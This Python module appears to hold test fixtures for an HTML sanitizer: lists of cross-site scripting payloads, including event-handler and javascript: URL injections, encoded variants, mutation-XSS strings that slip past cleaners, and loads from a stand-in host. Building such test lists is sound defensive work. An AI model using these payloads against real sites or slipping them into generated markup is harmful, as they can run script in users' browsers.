"""Programs that people have hidden in rich text, old and new."""

TAGS_TO_RUN = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//ke-xau.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" vbscript:msgbox(1)">x</a>',
    '<iframe src="//ke-xau.example"></iframe>',
    '<object data="//ke-xau.example"></object>',
)
"""Plain ones, which are refused with a word to whoever sends them."""

SCRIPTS = (
    *TAGS_TO_RUN,
    # Read one way by a cleaner and another way by a browser (mutation XSS).
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=alert(1)&gt;'>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    '<svg><style><img src=x onerror="alert(1)"></style></svg>',
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    # Out of an attribute, out of an element, into the address of one.
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title></script><script>alert(1)</script>",
    '" onfocus="alert(1)" autofocus="',
    "{{ 7*7 }}<script>alert(1)</script>",
    '<span data-math="inline" data-latex="\\href{javascript:alert(1)}{x}" '
    'onclick="alert(1)">x</span>',
    '<base href="//ke-xau.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="//ke-xau.example/x.css">',
    "<style>@import '//ke-xau.example/x.css'</style>",
    '<img src="//ke-xau.example/x.png" style="background:url(javascript:alert(1))">',
)
